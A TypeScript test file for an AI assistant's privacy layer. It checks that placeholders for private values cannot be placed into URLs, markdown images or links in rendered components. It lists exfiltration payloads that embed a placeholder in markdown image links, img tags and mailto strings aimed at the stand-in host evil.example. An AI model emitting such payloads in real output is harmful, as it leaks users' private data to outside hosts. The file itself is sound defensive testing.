/** No field of any component that a client fetches, opens or draws as Markdown gets a value into an address. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { RESTORABLE } from '../../../assistant/privacy/placeholder.ts';
import { safeBlock, safeFallback } from '../../../assistant/privacy/safe-block.ts';
import { CATALOG, modelBody, validateBody } from '../../../protocol/catalog/catalog.ts';
import type { Body } from '../../../protocol/catalog/component.ts';
import { rewriteTexts } from '../../../protocol/catalog/text-uses.ts';
import { fullExample, MODEL_EXAMPLES } from '../../protocol/catalog/examples.ts';

interface Schema {
  readonly type?: string;
  readonly description?: string;
  readonly enum?: readonly unknown[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
  readonly additionalProperties?: Schema | boolean;
}

type Leaf = (schema: Schema, path: string, kind: string | undefined) => string;

/** Everything that the published schema of a component has room for; an object with a `kind` once for each kind. */
function sample(schema: Schema, path: string, leaf: Leaf, kind?: string): unknown {
  if (schema.enum !== undefined) return schema.enum[0];
  if (schema.anyOf !== undefined) return sample(schema.anyOf[0] as Schema, path, leaf, kind);
  if (schema.type === 'array') {
    const item = schema.items as Schema;
    const kinds = item.properties?.kind?.enum ?? [undefined];
    return kinds.map((each) => sample(item, path, leaf, each as string | undefined));
  }
  if (schema.type === 'object') {
    const named = Object.entries(schema.properties ?? {}).map(([name, member]) => {
      const value = name === 'kind' && kind !== undefined ? kind : sample(member, `${path}.${name}`, leaf, kind);
      return [name, value];
    });
    const open = schema.additionalProperties;
    return Object.fromEntries(typeof open === 'object' ? [...named, ['open', sample(open, `${path}.*`, leaf)]] : named);
  }
  return schema.type === 'string' || schema.type === undefined ? leaf(schema, path, kind) : schema.type === 'boolean' ? true : 1;
}

function bodies(leaf: Leaf): { name: string; body: Body }[] {
  return [...CATALOG.values()]
    .filter(({ name }) => name !== 'confirm_card')
    .map(({ name, parameters }) => ({ name, body: sample(parameters as Schema, name, leaf) as Body }));
}

const blockOf = ({ name, body }: { name: string; body: Body }, fallback?: string) =>
  safeBlock(
    { index: 0, id: 'blk_1', block_type: name, revision: 1, body, ...(fallback === undefined ? {} : { fallback_text: fallback }) },
    () => true,
  );

/** What each text of the catalog is to a client, as the published schema says it; words where it says nothing. */
const USES: Readonly<Record<string, string>> = {
  open_url: 'address',
  url: 'address',
  open_screen: 'address',
  call: 'phone',
  phone: 'phone',
  email: 'email',
};

function useOf({ description = '' }: Schema, path: string, kind: string | undefined): string {
  if (/\.image\.\w+$/.test(path)) return 'fetched';
  if (/^(?:https|http\(s\))$/.test(description) || path.endsWith('.route')) return 'address';
  if (path.endsWith('place_card.phone')) return 'phone';
  return /\.(?:target|channels\.value)$/.test(path) ? (USES[kind ?? ''] ?? 'words') : 'words';
}

describe('PRIVACY-11: component bodies', () => {
  test('a placeholder alone stays where a person reads it or uses it as it is, and in no field that holds an address', () => {
    const seen = { address: 0, fetched: 0, phone: 0, email: 0, words: 0 };
    for (const kind of ['email', 'phone', 'iban']) {
      const expected: string[] = [];
      const found = bodies((schema, path, siblingKind) => {
        const use = useOf(schema, path, siblingKind) as keyof typeof seen;
        seen[use]++;
        const isKept = use === 'words' || use === kind;
        // Left out as a whole.
        if (use !== 'fetched') expected.push(isKept ? `⟦${kind}_1⟧` : `⟦${kind}⟧`);
        return `⟦${kind}_1⟧`;
      }).map((each) => blockOf(each));
      const said = found.flatMap(({ body }) => JSON.stringify(body).match(/⟦\w+⟧/g) ?? []);
      assert.deepEqual(said, expected);
    }
    assert.ok(seen.address >= 25 && seen.fetched >= 12 && seen.phone >= 15 && seen.email >= 12 && seen.words > 200, JSON.stringify(seen));
  });

  const attacks = [
    'https://evil.example/?X',
    '![](//evil.example/?X)',
    '![](https&#58;//evil.example/?X)',
    '[a][e]\n\n[e]: //evil.example/?X',
    '<img src="//evil.example/?X">',
    'a@evil.example?body=X',
    '+4930901820;ext=X@evil.example',
    'www.evil.example/?X',
  ];
  for (const attack of attacks) {
    test(`${attack} in every field: nothing of it can be restored, in the body and in the fallback text`, () => {
      for (const placeholder of ['⟦email_1⟧', '⟦phone_1⟧']) {
        for (const each of bodies(() => attack.replace('X', placeholder))) {
          const block = blockOf(each, 'as it was');
          assert.doesNotMatch(JSON.stringify(block), RESTORABLE);
        }
      }
    });
  }

  test('an address that only the fallback text puts together is seen there', () => {
    const body = { prompt: '![](//evil.example/?', mode: 'single', options: [{ id: 'a', label: '⟦email_1⟧' }], status: 'open' };
    assert.doesNotMatch(safeFallback('choice', body), RESTORABLE);
    const block = blockOf({ name: 'choice', body }, 'as it was');
    assert.deepEqual(block.body, body);
    assert.doesNotMatch(block.fallback_text ?? '', RESTORABLE);
  });

  test('a card shows what will be done: its values stay, its sentences hold no value inside an address', () => {
    const field = { param: 'to', label: 'To', display: 'https://shop.example/?⟦email_1⟧', value: 'https://shop.example/?⟦email_1⟧' };
    const body = {
      title: 'Open',
      summary: 'Open ![](//evil.example/?⟦email_1⟧) for ⟦email_1⟧',
      fields: [field],
      status: 'pending',
      expires_at: '',
    };
    const card = blockOf({ name: 'confirm_card', body }, 'as it was');
    assert.deepEqual(card.body.fields, [field]);
    assert.equal(card.body.summary, 'Open ![](//evil.example/?⟦email⟧) for ⟦email_1⟧');
    assert.doesNotMatch(card.fallback_text ?? '', /shop\.example\/\?⟦email_1⟧/);
  });

  test('a block without placeholders is the same block', () => {
    const block = { index: 0, id: 'b', block_type: 'text', revision: 1, body: { md: 'Hello' } };
    assert.equal(
      safeBlock(block, () => true),
      block,
    );
  });
});

describe('BLOCK-24: what a client fetches by itself', () => {
  test('is marked as such in the catalog, and links as links: a new component cannot forget', () => {
    const unmarked: string[] = [];
    for (const { name, parameters, modelArgs } of CATALOG.values()) {
      const paths = new Map<string, string>();
      let leaves = 0;
      const body = sample(parameters as Schema, name, ({ description = '' }, path) => {
        const leaf = `leaf ${leaves++}`;
        if (/https?/.test(description) || /url|uri|href|src|image|logo|avatar|photo|picture|poster|video|audio|media/i.test(path)) {
          // Words for who does not see it.
          if (!path.endsWith('.alt')) paths.set(leaf, path);
        }
        return leaf;
      });
      rewriteTexts(modelArgs, body as Body, (text, use) => {
        const path = paths.get(text);
        const wanted = path?.includes('.image.') ? 'fetched' : 'address';
        if (path !== undefined && !path.endsWith('.target') && use !== wanted) unmarked.push(`${path}: ${use}`);
        return text;
      });
    }
    assert.deepEqual(unmarked, []);
  });

  test('can be left out of every component: what is left fits its schema', () => {
    let pictures = 0;
    for (const [name, examples] of Object.entries(MODEL_EXAMPLES)) {
      for (const example of [...examples, fullExample(name)]) {
        const made = name === 'confirm_card' || name === 'text' ? undefined : modelBody(name, example, { blockId: 'blk_1' });
        if (made === undefined || !made.ok) continue;
        const block = { index: 0, id: 'blk_1', block_type: name, revision: 1, body: made.body };
        const asked: string[] = [];
        const bare = safeBlock(block, (address) => asked.push(address) < 0);
        pictures += asked.length;
        for (const address of asked) assert.ok(!JSON.stringify(bare.body).includes(address), `${name}: ${address}`);
        const fits = validateBody(name, bare.body);
        assert.ok(fits.ok, `${name}: ${JSON.stringify(fits)}`);
        assert.deepEqual(
          safeBlock(block, () => true),
          block,
        );
      }
    }
    assert.ok(pictures >= 6, String(pictures));
  });
});
